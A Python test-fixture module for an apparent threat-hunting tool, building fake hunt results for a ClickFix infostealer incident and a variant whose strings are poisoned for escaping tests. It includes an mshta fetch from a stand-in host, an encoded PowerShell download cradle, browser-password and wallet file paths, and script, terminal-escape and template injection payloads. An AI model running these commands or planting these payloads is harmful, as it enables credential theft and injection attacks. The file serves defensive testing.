"""Three hunt results made by hand, shaped as real ones: a Lumma ClickFix incident, the same one hostile, and nothing.

`lumma()` is what goldens, screenshots and most tests render. `hostile()` is the same incident with every text that an
attacker can choose replaced by what attackers put there. `empty()` found nothing. `crowd()` has many alerts.
Addresses and names are from the ranges reserved for documentation.
"""

from __future__ import annotations

from dataclasses import fields, is_dataclass, replace
from datetime import UTC, date, datetime, timedelta
from typing import Any

from douse.hunt.allow import Entry
from douse.hunt.result import Allowance, HuntResult, InputFile, Problem, Provenance, Summary, Suppressed
from douse.model import (
    LEVELS,
    Alert,
    Asset,
    BlindSpot,
    ChannelCount,
    ClassScore,
    Coverage,
    Incident,
    Match,
    ProcessNode,
    SequenceHit,
    Source,
    Stage,
    Step,
)

HOST = "WS-FIN-07.corp.example"
USER = "CORP\\m.keller"
START = datetime(2026, 11, 18, 9, 14, 2, 118000, tzinfo=UTC)
SYSMON = "Microsoft-Windows-Sysmon/Operational"
SECURITY = "Security"
URL = "https://verify-human.example/s/7f3a.mp4"
MSHTA_LINE = f'"C:\\Windows\\system32\\mshta.exe" {URL} # I am not a robot: Cloudflare verification ID 8841'
POWERSHELL_LINE = (
    '"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -w hidden -ep bypass -nop -enc '
    "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQA"
)
REGASM = "C:\\Windows\\Microsoft.NET\\Framework\\v4.0.30319\\RegAsm.exe"
POWERSHELL = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
MSHTA = "C:\\Windows\\System32\\mshta.exe"
EXPLORER = "C:\\Windows\\explorer.exe"
APPDATA = "C:\\Users\\m.keller\\AppData"
CHROME_LOGINS = f"{APPDATA}\\Local\\Google\\Chrome\\User Data\\Default\\Login Data"
FIREFOX_LOGINS = f"{APPDATA}\\Roaming\\Mozilla\\Firefox\\Profiles\\k3x9.default-release\\logins.json"
EXODUS_SEED = f"{APPDATA}\\Roaming\\Exodus\\exodus.wallet\\seed.seco"
EVTX = "case-0412/WS-FIN-07/Security.evtx"
SYSMON_EVTX = "case-0412/WS-FIN-07/Microsoft-Windows-Sysmon%4Operational.evtx"

# number, seconds, rule id, title, level, channel, event id, techniques, class, store, fidelity, stage, matched field,
# value, pattern, further fields
_ALERTS: tuple[tuple[Any, ...], ...] = (
    (
        1,
        0.0,
        "5a0c0c5e-6d51-4f0e-9a6d-0a51f2c0e001",
        "Command with lure text in the Run dialog's history",
        "high",
        SYSMON,
        13,
        ("T1204.004",),
        "X",
        "",
        1.0,
        1,
        "Details",
        MSHTA_LINE.replace('"', "") + "\\1",
        "mshta AND http AND lure word",
        {
            "EventType": "SetValue",
            "Image": EXPLORER,
            "ProcessId": "4312",
            "TargetObject": "HKU\\S-1-5-21-1004336348-1177238915-682003330-1604\\Software\\Microsoft\\Windows"
            "\\CurrentVersion\\Explorer\\RunMRU\\a",
        },
    ),
    (
        2,
        0.64,
        "5a0c0c5e-6d51-4f0e-9a6d-0a51f2c0e002",
        "Explorer starts mshta with a URL",
        "high",
        SYSMON,
        1,
        ("T1218.005",),
        "X",
        "",
        1.0,
        1,
        "CommandLine",
        MSHTA_LINE,
        "*mshta*http*",
        {"Image": MSHTA, "ParentImage": EXPLORER, "ProcessId": "7720", "User": USER},
    ),
    (
        3,
        1.9,
        "5a0c0c5e-6d51-4f0e-9a6d-0a51f2c0e003",
        "mshta connects to the network",
        "high",
        SYSMON,
        3,
        ("T1218.005", "T1071.001"),
        "R",
        "",
        1.0,
        1,
        "Image",
        MSHTA,
        "*\\mshta.exe",
        {"DestinationIp": "203.0.113.44", "DestinationPort": "443", "Protocol": "tcp", "ProcessId": "7720"},
    ),
    (
        4,
        4.2,
        "5a0c0c5e-6d51-4f0e-9a6d-0a51f2c0e004",
        "Hidden PowerShell with an encoded command",
        "high",
        SYSMON,
        1,
        ("T1059.001", "T1027.010"),
        "E",
        "",
        1.0,
        2,
        "CommandLine",
        POWERSHELL_LINE,
        "*-enc*",
        {"Image": POWERSHELL, "ParentImage": MSHTA, "ProcessId": "8104", "User": USER},
    ),
    (
        5,
        9.8,
        "5a0c0c5e-6d51-4f0e-9a6d-0a51f2c0e005",
        "Security software searched by name",
        "medium",
        SYSMON,
        1,
        ("T1518.001",),
        "E",
        "",
        0.7,
        2,
        "CommandLine",
        'findstr /I "avastui avgui bdservicehost sophoshealth"',
        "two or more product names",
        {"Image": "C:\\Windows\\System32\\findstr.exe", "ProcessId": "8290", "User": USER},
    ),
    (
        6,
        21.3,
        "5a0c0c5e-6d51-4f0e-9a6d-0a51f2c0e006",
        "PowerShell opens a .NET host with full access",
        "medium",
        SYSMON,
        10,
        ("T1055.003",),
        "I",
        "",
        0.7,
        3,
        "GrantedAccess",
        "0x1FFFFF",
        "0x1FFFFF",
        {"SourceImage": POWERSHELL, "TargetImage": REGASM, "CallTrace": "ntdll.dll+9d4c4|UNKNOWN(00000271A3B20F1A)"},
    ),
    (
        7,
        22.0,
        "5a0c0c5e-6d51-4f0e-9a6d-0a51f2c0e007",
        "A .NET host without arguments connects to the network",
        "high",
        SYSMON,
        3,
        ("T1055", "T1071.001"),
        "I",
        "",
        1.0,
        3,
        "Image",
        REGASM,
        "*\\RegAsm.exe",
        {"DestinationIp": "198.51.100.23", "DestinationPort": "443", "ProcessId": "8456"},
    ),
    (
        8,
        26.4,
        "5a0c0c5e-6d51-4f0e-9a6d-0a51f2c0e008",
        "Dead-drop page asked by a process that is no browser",
        "high",
        SYSMON,
        22,
        ("T1102.001",),
        "R",
        "",
        0.7,
        3,
        "QueryName",
        "t.me",
        "t.me",
        {"Image": REGASM, "QueryResults": "::ffff:203.0.113.99;", "ProcessId": "8456"},
    ),
    (
        9,
        41.7,
        "5a0c0c5e-6d51-4f0e-9a6d-0a51f2c0e009",
        "Browser password store read by a process that does not own it",
        "high",
        SECURITY,
        4663,
        ("T1555.003",),
        "C",
        "chromium",
        1.0,
        3,
        "ObjectName",
        CHROME_LOGINS,
        "*\\Login Data",
        {"ProcessName": REGASM, "ProcessId": "0x2108", "AccessMask": "0x1", "SubjectUserName": "m.keller"},
    ),
    (
        10,
        42.3,
        "5a0c0c5e-6d51-4f0e-9a6d-0a51f2c0e009",
        "Browser password store read by a process that does not own it",
        "high",
        SECURITY,
        4663,
        ("T1555.003",),
        "C",
        "gecko",
        1.0,
        3,
        "ObjectName",
        FIREFOX_LOGINS,
        "*\\logins.json",
        {"ProcessName": REGASM, "ProcessId": "0x2108", "AccessMask": "0x1", "SubjectUserName": "m.keller"},
    ),
    (
        11,
        44.0,
        "5a0c0c5e-6d51-4f0e-9a6d-0a51f2c0e010",
        "Wallet file read by a process that does not own it",
        "high",
        SECURITY,
        4663,
        ("T1005", "T1657"),
        "C",
        "wallet",
        1.0,
        3,
        "ObjectName",
        EXODUS_SEED,
        "*\\exodus.wallet\\*",
        {"ProcessName": REGASM, "ProcessId": "0x2108", "AccessMask": "0x1", "SubjectUserName": "m.keller"},
    ),
    (
        12,
        158.2,
        "5a0c0c5e-6d51-4f0e-9a6d-0a51f2c0e011",
        "Run dialog's history deleted",
        "medium",
        SYSMON,
        12,
        ("T1070",),
        "P",
        "",
        0.7,
        3,
        "TargetObject",
        (
            "HKU\\S-1-5-21-1004336348-1177238915-682003330-1604\\Software"
            "\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RunMRU\\a"
        ),
        "*\\RunMRU\\*",
        {"EventType": "DeleteValue", "Image": POWERSHELL, "ProcessId": "8104"},
    ),
)


def _at(seconds: float) -> datetime:
    return START + timedelta(seconds=seconds)


def _id(number: int) -> str:
    return f"a1e7c9d2-0412-5{number:03x}-8c11-00155d01{number:04x}"


def _alert(row: tuple[Any, ...]) -> Alert:
    (
        number,
        seconds,
        rule_id,
        title,
        level,
        channel,
        event_id,
        techniques,
        letter,
        store,
        fidelity,
        stage,
        name,
        value,
        pattern,
        more,
    ) = row
    sysmon = channel == SYSMON
    provider = "Microsoft-Windows-Sysmon" if sysmon else "Microsoft-Windows-Security-Auditing"
    system = {"EventID": str(event_id), "Channel": channel, "Computer": HOST, "Provider_Name": provider}
    return Alert(
        alert_id=_id(number),
        rule_id=rule_id,
        title=title,
        level=level,
        time=_at(seconds),
        host=HOST,
        channel=channel,
        provider=provider,
        event_id=event_id,
        record_id=(88120 if sysmon else 4410233) + number * 7,
        source=Source(SYSMON_EVTX if sysmon else EVTX, "", "evtx"),
        techniques=techniques,
        evidence_class=letter,
        store=store,
        fidelity=fidelity,
        stage=stage,
        role="",
        matched=(Match("selection", name, value, pattern),),
        fields=system | {name: value} | more,
    )


def _steps(alerts: tuple[Alert, ...]) -> tuple[Step, ...]:
    told = (
        ((1,), "A command was pasted into the Run dialog", MSHTA_LINE, "explorer.exe (4312)"),
        ((2, 3), "mshta ran the pasted address and went online", f"{URL} → 203.0.113.44:443", "mshta.exe (7720)"),
        ((4,), "mshta started a hidden, encoded PowerShell", POWERSHELL_LINE, "powershell.exe (8104)"),
        ((5,), "It looked for security software", 'findstr /I "avastui avgui bdservicehost"', "findstr.exe (8290)"),
        (
            (6, 7),
            "PowerShell took over RegAsm.exe, which then went online",
            "full access from unbacked memory, then 198.51.100.23:443",
            "RegAsm.exe (8456)",
        ),
        ((8,), "RegAsm.exe asked t.me for its next address", "DNS query t.me", "RegAsm.exe (8456)"),
        ((9,), "Chrome's saved passwords were read", CHROME_LOGINS, "RegAsm.exe (8456)"),
        ((10,), "Firefox's saved passwords were read", FIREFOX_LOGINS, "RegAsm.exe (8456)"),
        ((11,), "The Exodus wallet was read", EXODUS_SEED, "RegAsm.exe (8456)"),
    )
    steps = [_step(tuple(alerts[n - 1] for n in numbers), *rest) for numbers, *rest in told]
    steps.append(
        Step(
            _at(49.6),
            "O",
            3,
            "Possible exfiltration (bytes unknown)",
            "connection to 198.51.100.23:443 by the process that read the stores",
            "RegAsm.exe (8456)",
            "high",
            ("T1041",),
            (),
            f"{SYSMON} event 3, record 88331",
        )
    )
    steps.append(
        _step((alerts[11],), "The Run dialog's history was deleted", "RunMRU value a", "powershell.exe (8104)")
    )
    return tuple(steps)


def _step(proof: tuple[Alert, ...], title: str, detail: str, process: str) -> Step:
    techniques = tuple(dict.fromkeys(name for alert in proof for name in alert.techniques))
    level = max((alert.level for alert in proof), key=LEVELS.index)
    first = proof[0]
    return Step(
        first.time,
        first.evidence_class,
        first.stage,
        title,
        detail,
        process,
        level,
        techniques,
        tuple(alert.alert_id for alert in proof),
    )


def _stages() -> tuple[Stage, ...]:
    return (
        Stage(
            1, "Delivery and first execution", ("T1204.004", "T1218.005"), _at(0), _at(1.9), (_id(1), _id(2), _id(3))
        ),
        Stage(
            2,
            "Script and defence evasion",
            ("T1059.001", "T1027.010", "T1518.001"),
            _at(4.2),
            _at(9.8),
            (_id(4), _id(5)),
        ),
        Stage(
            3,
            "Injection, theft and transfer",
            ("T1055.003", "T1102.001", "T1555.003", "T1005", "T1041"),
            _at(21.3),
            _at(158.2),
            tuple(_id(n) for n in range(6, 13)),
        ),
    )


def _classes() -> tuple[ClassScore, ...]:
    return (
        ClassScore("X", 15.0, "Explorer starts mshta with a URL, fidelity 1.0", (_id(1), _id(2))),
        ClassScore("E", 10.0, "Hidden PowerShell with an encoded command, fidelity 1.0", (_id(4), _id(5))),
        ClassScore("I", 20.0, "A .NET host without arguments connects to the network, fidelity 1.0", (_id(6), _id(7))),
        ClassScore("C", 45.0, "three stores: chromium, gecko, wallet (25 + 10 + 10)", (_id(9), _id(10), _id(11))),
        ClassScore("R", 10.0, "mshta connects to the network, fidelity 1.0", (_id(3), _id(8))),
        ClassScore("O", 14.0, "connection by the reading process within 10 minutes, fidelity 0.7", ()),
        ClassScore("P", 3.5, "Run dialog's history deleted, fidelity 0.7", (_id(12),)),
    )


def _sequences() -> tuple[SequenceHit, ...]:
    return (
        SequenceHit(
            "S1",
            "Paste and run",
            "high",
            0,
            _at(0),
            _at(0.64),
            "the pasted command and explorer's child within 15 s",
            (_id(1), _id(2)),
        ),
        SequenceHit(
            "S3",
            "Loader: injection, then network",
            "high",
            10,
            _at(0.64),
            _at(22),
            "execution, injection and a connection of the injected host within 15 min",
            (_id(2), _id(6), _id(7)),
        ),
        SequenceHit(
            "S5",
            "Theft with outbound transfer",
            "critical",
            25,
            _at(26.4),
            _at(49.6),
            "stores read, dead drop and connection by one process",
            (_id(8), _id(9), _id(10), _id(11)),
        ),
        SequenceHit(
            "S6",
            "Execution, then two or more stores",
            "critical",
            25,
            _at(0.64),
            _at(44),
            "chromium, gecko and wallet within 30 min of the execution",
            (_id(2), _id(9), _id(10), _id(11)),
        ),
    )


def _processes() -> tuple[ProcessNode, ...]:
    def node(
        pid: int, image: str, line: str, at: float | None, parent: int | None, link: str, *proof: int
    ) -> ProcessNode:
        started = None if at is None else _at(at)
        return ProcessNode(
            pid,
            f"{{7c1f0e52-0412-673a-{pid:04x}-000000001a00}}",
            image,
            line,
            USER,
            started,
            parent,
            link,
            tuple(_id(n) for n in proof),
        )

    return (
        node(4312, EXPLORER, EXPLORER, None, None, "", 1),
        node(7720, MSHTA, MSHTA_LINE, 0.64, 0, "child; started by a typed or pasted command", 2, 3),
        node(8104, POWERSHELL, POWERSHELL_LINE, 4.2, 1, "child", 4, 6, 12),
        node(8276, "C:\\Windows\\System32\\cmd.exe", 'cmd /c tasklist | findstr /I "avastui avgui"', 9.6, 2, "child"),
        node(
            8290, "C:\\Windows\\System32\\findstr.exe", 'findstr /I "avastui avgui bdservicehost"', 9.8, 3, "child", 5
        ),
        node(8456, REGASM, f'"{REGASM}"', 21.1, 2, "child; injected by powershell.exe", 7, 8, 9, 10, 11),
    )


BLIND_SPOTS = (
    BlindSpot(
        "sysmon-7",
        "Loaded libraries",
        "Sysmon 7",
        ("I", "E"),
        "Which libraries the injected process loaded.",
        "Add ImageLoad rules for vaultcli.dll, rstrtmgr.dll and dpapi.dll to the Sysmon configuration.",
        True,
    ),
    BlindSpot(
        "powershell-4104",
        "PowerShell script text",
        "PowerShell 4103, 4104",
        ("X", "E"),
        "What the encoded PowerShell command did.",
        "Group policy: Windows PowerShell > Turn on PowerShell Script Block Logging.",
        True,
    ),
    BlindSpot(
        "network-bytes",
        "Transferred bytes",
        "Zeek conn, proxy, firewall",
        ("O",),
        "Whether data left the machine, and how much.",
        "Keep proxy or Zeek logs of the client network.",
        False,
    ),
    BlindSpot(
        "dpapi-16385",
        "Decryption of browser keys",
        "DPAPI 16385",
        ("C",),
        "Whether the thief decrypted the browser's key.",
        "wevtutil sl Microsoft-Windows-Crypto-DPAPI/Debug /e:true, and Audit DPAPI Activity.",
        False,
    ),
    BlindSpot(
        "vault",
        "Windows Credential Manager",
        "Security 5379, 5381, 5382",
        ("C",),
        "Whether passwords in the Credential Manager were read.",
        "Audit policy: Account Management > Audit User Account Management (success).",
        True,
    ),
    BlindSpot(
        "sysmon-24",
        "Clipboard",
        "Sysmon 24",
        ("D",),
        "Which web page put the command on the clipboard.",
        "Sysmon: CaptureClipboard with a rule for browsers. It archives clipboard text: ask your privacy officer.",
        False,
    ),
)

_NEXT_STEPS = (
    "Isolate WS-FIN-07 from the network now; keep it switched on so that memory can be taken.",
    (
        "Treat as stolen: every password and session saved in Chrome and Firefox for m.keller. Reset them from another "
        "machine, mail and single sign-on first, and sign out all sessions."
    ),
    "Move the funds of the Exodus wallet to a new wallet made on a clean machine.",
    "Block 203.0.113.44, 198.51.100.23 and verify-human.example, and search other hosts for them.",
    "Take memory and a disk image before anyone cleans up, then rebuild the machine.",
)

_COUNTS = (
    (SYSMON, 1, 1204),
    (SYSMON, 3, 388),
    (SYSMON, 10, 96),
    (SYSMON, 11, 2210),
    (SYSMON, 12, 340),
    (SYSMON, 13, 1871),
    (SYSMON, 22, 640),
    (SECURITY, 4624, 210),
    (SECURITY, 4663, 57),
    (SECURITY, 4672, 101),
    (SECURITY, 4688, 1190),
    ("System", 7036, 44),
    ("Application", 1000, 2),
)


def coverage() -> Coverage:
    counts = (ChannelCount(name, event_id, records, _at(-5400), _at(4100)) for name, event_id, records in _COUNTS)
    return Coverage(HOST, tuple(counts))


def _incident(alerts: tuple[Alert, ...]) -> Incident:
    return Incident(
        incident_id="0f6f2a4e-6a1c-5b7e-9d1e-3a2b6f0c0412",
        host=HOST,
        level="critical",
        score=177.5,
        title="Infostealer incident: pasted command, injected RegAsm.exe, three stores read",
        verdict="Someone was led to paste a command into the Run dialog. It fetched a loader, took over RegAsm.exe, "
        "and that process read the passwords of Chrome and Firefox and the Exodus wallet before it connected out "
        "again. Treat the contents of these stores as stolen.",
        users=(USER,),
        first_seen=_at(0),
        last_seen=_at(158.2),
        family="unattributed infostealer",
        family_detail="Behaviour alone does not name a family.",
        steps=_steps(alerts),
        stages=_stages(),
        sequences=_sequences(),
        classes=_classes(),
        level_reason="Critical: sequences S5 and S6 found; seven evidence classes give 117.5 points, sequences 60.",
        processes=_processes(),
        next_steps=_NEXT_STEPS,
        blind_spots=BLIND_SPOTS,
        coverage=coverage(),
        alert_ids=tuple(alert.alert_id for alert in alerts),
    )


def _second_incident() -> Incident:
    """A small one on another host, so that the short list of further incidents has something to show."""
    host, at = "WS-HR-02.corp.example", _at(7300)
    return Incident(
        incident_id="5b2d7c10-1f1f-5c3a-8a44-9d0e11aa0413",
        host=host,
        level="low",
        score=22.0,
        title="Archiver started a program from the temporary folder",
        verdict="Weak signs of delivery, nothing followed.",
        users=("CORP\\j.ortiz",),
        first_seen=at,
        last_seen=at,
        family="unattributed infostealer",
        family_detail="",
        steps=(
            Step(
                at,
                "X",
                1,
                "7zFM.exe started setup.exe from its temporary folder",
                "setup.exe",
                "setup.exe (5120)",
                "low",
                ("T1204.002",),
                (_id(13),),
            ),
        ),
        stages=(),
        sequences=(),
        classes=(ClassScore("X", 22.0, "Execution from an archiver", (_id(13),)),),
        level_reason="Low: one evidence class, 22 points.",
        processes=(),
        next_steps=("Ask j.ortiz what was installed.",),
        blind_spots=(),
        coverage=Coverage(host, ()),
        alert_ids=(_id(13),),
    )


def _second_alert() -> Alert:
    return Alert(
        alert_id=_id(13),
        rule_id="5a0c0c5e-6d51-4f0e-9a6d-0a51f2c0e012",
        title="Program started by an archiver",
        level="low",
        time=_at(7300),
        host="WS-HR-02.corp.example",
        channel=SYSMON,
        provider="Microsoft-Windows-Sysmon",
        event_id=1,
        record_id=1204,
        source=Source("case-0412/triage-hr.zip", "WS-HR-02/Sysmon.evtx", "evtx"),
        techniques=("T1204.002",),
        evidence_class="X",
        store="",
        fidelity=0.7,
        stage=1,
        role="",
        matched=(Match("selection", "ParentImage", "C:\\Program Files\\7-Zip\\7zFM.exe", "*\\7zFM.exe"),),
        fields={"ParentImage": "C:\\Program Files\\7-Zip\\7zFM.exe"},
    )


def _summary(alerts: tuple[Alert, ...], incidents: tuple[Incident, ...], partial: bool) -> Summary:
    by_level = {level: sum(alert.level == level for alert in alerts) for level in LEVELS}
    return Summary(
        files=3,
        records_read=8353,
        records_skipped=2410,
        records_lost=41 if partial else 0,
        alerts=len(alerts),
        incidents=len(incidents),
        partial=partial,
        rules_loaded=14,
        rules_rejected=1 if partial else 0,
        rules_idle=2,
        ignored_files=1,
        alerts_by_level=by_level,
        first_event=_at(-5400),
        last_event=_at(7300),
        elapsed_seconds=1.84,
    )


def _provenance() -> Provenance:
    inputs = (
        InputFile(EVTX, 6361088, "9f2c4b1de0a7c9e2d7a1b55f0c34d1f1f0d8b6c87e12a4a3f9d07b6a5c1e4f20"),
        InputFile(SYSMON_EVTX, 11603968, "1be75d0c8a914fd3d34fb9a8f1a66f0a5ccf3f43b2f2c0a1875c0d9f4a7e6b12"),
        InputFile("case-0412/triage-hr.zip", 2210344, ""),
    )
    return Provenance(
        "0.1.0",
        "sha256:77d1c6e0f9a24b3c8d5e6f7a8b9c0d1e2f30415263748596a7b8c9dadbecfd0e",
        "douse hunt case-0412 --format html -o report.html",
        datetime(2026, 11, 24, 8, 0, tzinfo=UTC),
        datetime(2026, 11, 24, 8, 0, 2, tzinfo=UTC),
        inputs,
    )


def lumma() -> HuntResult:
    """A critical incident with 12 alerts and 6 blind spots, a low one on another host, a loss and a broken rule."""
    alerts = tuple(_alert(row) for row in _ALERTS)
    incidents = (_incident(alerts), _second_incident())
    problems = (
        Problem(
            "loss",
            f"{SYSMON_EVTX}, chunk 12",
            "is damaged; kept 118 of 159 records",
            41,
            "Export the log again with wevtutil epl, or use --strict to stop instead.",
        ),
        Problem(
            "rule",
            "rules/local/store_read.yml:14",
            "unknown modifier 'startwith' on Image",
            None,
            "Did you mean 'startswith'?",
        ),
    )
    hr = Coverage("WS-HR-02.corp.example", (ChannelCount(SYSMON, 1, 311, _at(7000), _at(7300)),))
    alerts = (*alerts, _second_alert())
    return HuntResult(
        incidents,
        alerts,
        (coverage(), hr),
        {HOST: BLIND_SPOTS, hr.host: BLIND_SPOTS[:2]},
        problems,
        _summary(alerts, incidents, True),
        _provenance(),
    )


def weak() -> HuntResult:
    """A hunt whose only incident is a weak sign."""
    alert = _second_alert()
    hr = Coverage(alert.host, (ChannelCount(SYSMON, 1, 311, _at(7000), _at(7300)),))
    summary = _summary((alert,), (_second_incident(),), False)
    spots = {hr.host: BLIND_SPOTS[:2]}
    return HuntResult((_second_incident(),), (alert,), (hr,), spots, (), summary, _provenance())


def empty() -> HuntResult:
    """A hunt that read telemetry and found nothing; what it could not judge is stated."""
    return HuntResult((), (), (coverage(),), {HOST: BLIND_SPOTS}, (), _summary((), (), False), _provenance())


HOSTILE = (
    '<script>document.title="owned"</script>"><svg onload=document.title="owned"><img src=http://192.0.2.1/x.png>'
    "\x1b[31mred\x1b]8;;http://192.0.2.1/\x1b\\link\x1b]8;;\x1b\\\x9b2J\u202egpj.exe\u202c\u200b\r\n"
    "{{ 7*7 }}[bold]\ud800"
)

_OUR_WORDS = frozenset(
    {
        "level",
        "kind",
        "sha256",
        "evidence_class",
        "store",
        "format",
        "version",
        "classes",
        "techniques",
        "sequence_id",
        "alert_id",
        "alert_ids",
        "incident_id",
        "supersedes",
        "role",
        "alerts_by_level",
        "verified",
    }
)


def hostile() -> HuntResult:
    """The lumma result with every string that could come from evidence, a path or a foreign rule made hostile."""
    poisoned = _poison(lumma())
    assert isinstance(poisoned, HuntResult)
    return poisoned


def tuned() -> HuntResult:
    """The lumma result with lists of what is expected and of computers, their texts hostile too."""
    base = lumma()
    agent = "C:\\Program Files\\Contoso Backup\\*\\agent.exe"
    states = (("used", 7, (), ""), ("unused", 0, ("the path fits folders that users can write to",), ""),
              ("expired", 2, (), ""), ("no rule", 0, (), "no rule has this id. Did you mean 'store_read'?"))
    allowances = tuple(
        Allowance(Entry("tuning/allow.csv", line, "store_read", "ws-fin-*", agent, f"CHG-{line}, see the wiki",
                        date(2027, 3, 31), "CORP\\svc-backup", "--all", remarks), state, "5a0c0c5e", number, about)
        for line, (state, number, remarks, about) in enumerate(states, 2))
    asset = Asset("ws-fin-07", "engineering workstation", "Plant 2", "high", "role 'EWS'", "tuning/assets.csv:2")
    impact = "tuning/assets.csv:2 marks this computer as OT or engineering."
    left_out = tuple(Suppressed(alert, allowances[0].entry) for alert in base.alerts[4:11])
    result = replace(
        base,
        incidents=(replace(base.incidents[0], asset=asset, impact=("T0882",), impact_reason=impact),
                   *base.incidents[1:]),
        summary=replace(base.summary, alerts_suppressed=len(left_out)), suppressed=left_out, allowances=allowances,
        assets={HOST: asset},
    )
    poisoned = _poison(result)
    assert isinstance(poisoned, HuntResult)
    return poisoned


def _poison(value: Any) -> Any:
    """Put HOSTILE behind every string, except in the fields that hold words of ours."""
    if isinstance(value, str):
        return value + HOSTILE
    if isinstance(value, tuple):
        return tuple(_poison(item) for item in value)
    if isinstance(value, dict):
        return {_poison(key): _poison(item) for key, item in value.items()}
    if is_dataclass(value) and not isinstance(value, type):
        changed = {f.name: _poison(getattr(value, f.name)) for f in fields(value) if f.name not in _OUR_WORDS}
        return replace(value, **changed)
    return value


def crowd(count: int) -> HuntResult:
    """The lumma result and so many further alerts that belong to no incident."""
    base = lumma()
    model = base.alerts[4]
    more = tuple(
        replace(
            model,
            alert_id=f"c0ffee00-0000-5000-8000-{n:012x}",
            time=model.time + timedelta(seconds=n),
            record_id=n,
            level=LEVELS[n % 3],
            title=f"{model.title} ({n})",
        )
        for n in range(count)
    )
    alerts = base.alerts + more
    return replace(base, alerts=alerts, summary=_summary(alerts, base.incidents, True))
